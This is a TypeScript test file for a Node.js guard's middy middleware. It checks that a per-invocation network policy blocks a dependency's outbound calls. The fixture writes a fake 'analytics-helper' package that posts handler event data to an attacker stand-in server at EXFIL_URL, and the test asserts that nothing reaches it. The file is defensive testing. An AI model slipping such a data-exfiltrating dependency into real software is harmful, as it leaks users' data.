/**
 * `perimeter/middy` with the real @middy/core, in a process guarded by the preload: the middleware names every event
 * after the invocation (also events from other middlewares and from work after awaits), applies a per-invocation
 * narrower policy, leaves the invocation on success and on error, and flushes events before middy returns.
 */
import assert from 'node:assert/strict';
import { cpSync, symlinkSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { PACKAGE_ROOT, runGuarded, startRecordingServer, tempDir, writeTree } from '../helpers.js';
import { PROBE_FILE, PROBE_SOURCE, readProbe } from '../servers/probe.js';

type Server = Awaited<ReturnType<typeof startRecordingServer>>;

const MIDDY = resolve(PACKAGE_ROOT, '../../node_modules/@middy/core');

const SCRIPT = `import http from 'node:http';
import { readFileSync } from 'node:fs';
import middy from '@middy/core';
import { perimeter } from 'perimeter/middy';
import track from 'analytics-helper';
import probe from './probe.cjs';
const { attempt, report } = probe;

const charge = (amount) => new Promise((resolve, reject) => {
  const req = http.request(process.env.STRIPE_URL + '/v1/charges', { method: 'POST' }, (res) => { res.resume(); resolve(res.statusCode); });
  req.on('error', reject);
  req.end('amount=' + amount);
});

// Another middleware whose dependency call happens inside the chain, before the handler.
const audit = { before: async (request) => { request.internal.audit = await track({ audit: request.event.amount }, '/audit'); } };

const handler = middy(async (event, context) => ({
  id: context.awsRequestId,
  charge: await charge(event.amount),
  exfil: await track(event),
}))
  .use(perimeter())
  .use(audit);

const failing = middy(async () => {
  await track({ failing: true });
  throw Object.assign(new Error('declined'), { code: 'CARD_DECLINED' });
}).use(perimeter());

const readonly = middy(async () => charge(1).catch((e) => e.code)).use(perimeter({ policy: { network: { allow: [] } } }));

const context = (awsRequestId) => ({ functionName: 'orders', awsRequestId, getRemainingTimeInMillis: () => 30000 });
const events = () => readFileSync(process.env.PERIMETER_EVENTS_FILE, 'utf8');

await attempt('invoke', async () => JSON.stringify(await handler({ amount: 3 }, context('mid-1'))));
await attempt('flushed-on-return', async () => String(events().includes('mid-1')));
await attempt('error', () => failing({}, context('mid-2')));
await attempt('flushed-on-error', async () => String(events().includes('mid-2')));
await attempt('narrower', () => readonly({}, context('mid-3')));
await attempt('after-narrower', () => charge(2));
await attempt('outside', () => track({ outside: true }));
report();
`;

describe('perimeter/middy with @middy/core', () => {
  let stripe: Server;
  let exfil: Server;
  let results: Record<string, string>;
  let events: Array<Record<string, any>>;

  before(async () => {
    [stripe, exfil] = await Promise.all([startRecordingServer(), startRecordingServer()]);
    const dir = tempDir('perimeter-middy-');
    writeTree(dir, {
      [PROBE_FILE]: PROBE_SOURCE,
      'main.mjs': SCRIPT,
      'node_modules/analytics-helper/package.json': '{"name":"analytics-helper","main":"index.js"}',
      'node_modules/analytics-helper/index.js': `const http = require('node:http');
module.exports = (data, path = '/collect') => new Promise((resolve) => {
  const req = http.request(process.env.EXFIL_URL + path, { method: 'POST' }, (res) => { res.resume(); resolve('sent'); });
  req.on('error', (e) => resolve(e.code || e.message));
  req.end(JSON.stringify(data));
});`,
    });
    // A copy, not a link: installed inside the function's folder like any dependency (the fs rules' defaults let a
    // function read its own folder, not the rest of the disk).
    cpSync(MIDDY, join(dir, 'node_modules/@middy/core'), { recursive: true });
    symlinkSync(PACKAGE_ROOT, join(dir, 'node_modules/perimeter'), 'dir');
    const run = await runGuarded({
      dir,
      policy: {
        mode: 'block',
        network: { allow: ['https://api.stripe.com', `POST http://127.0.0.1:${stripe.port}/v1/charges`] },
        env: { allow: ['STRIPE_URL', 'EXFIL_URL'] },
      },
      script: 'main.mjs',
      env: { STRIPE_URL: stripe.url, EXFIL_URL: exfil.url },
    });
    assert.equal(run.code, 0, run.stderr);
    results = readProbe(run.stdout).results;
    events = run.events;
  });
  after(async () => {
    await Promise.all([stripe.close(), exfil.close()]);
  });

  // middy awaits the handler, so V8's async stack trace puts @middy/core on every stack the handler's code produces
  // (and `package`, the outermost, names it); `packages` lists the dependency that made the call.
  const exfilEvents = (invocation: string | null) =>
    events.filter(
      (e) =>
        (e.package === 'analytics-helper' || e.packages?.includes('analytics-helper')) && e.invocation === invocation,
    );

  test('the handler runs through middy; the dependency is blocked, in the handler and in another middleware', () => {
    assert.deepEqual(JSON.parse(results.invoke!.replace(/^ok:/, '')), {
      id: 'mid-1',
      charge: 200,
      exfil: 'ERR_PERIMETER_BLOCKED',
    });
    const named = exfilEvents('mid-1');
    assert.deepEqual(
      named.map((e) => e.target).sort(),
      [`POST ${exfil.url}/audit`, `POST ${exfil.url}/collect`],
      JSON.stringify(events),
    );
    for (const event of named) assert.equal(event.function, 'orders');
  });

  test('errors pass through unchanged, and the invocation is named and left on the error path too', () => {
    assert.equal(results.error, 'CARD_DECLINED');
    assert.equal(exfilEvents('mid-2').length, 1, JSON.stringify(events));
  });

  test('events are on disk when middy returns, on success and on error', () => {
    assert.equal(results['flushed-on-return'], 'ok:true');
    assert.equal(results['flushed-on-error'], 'ok:true');
  });

  test('a narrower policy applies for the invocation only', () => {
    assert.equal(results.narrower, 'ok:ERR_PERIMETER_BLOCKED');
    assert.equal(events.find((e) => e.invocation === 'mid-3')?.reason, 'scope-policy');
    assert.equal(results['after-narrower'], 'ok:200');
  });

  test('after the invocation, events carry no invocation; nothing reached the attacker', () => {
    assert.equal(results.outside, 'ok:ERR_PERIMETER_BLOCKED');
    assert.equal(exfilEvents(null).length, 1, JSON.stringify(events));
    assert.equal(exfil.connections, 0);
    assert.equal(stripe.requests.length, 2);
  });
});
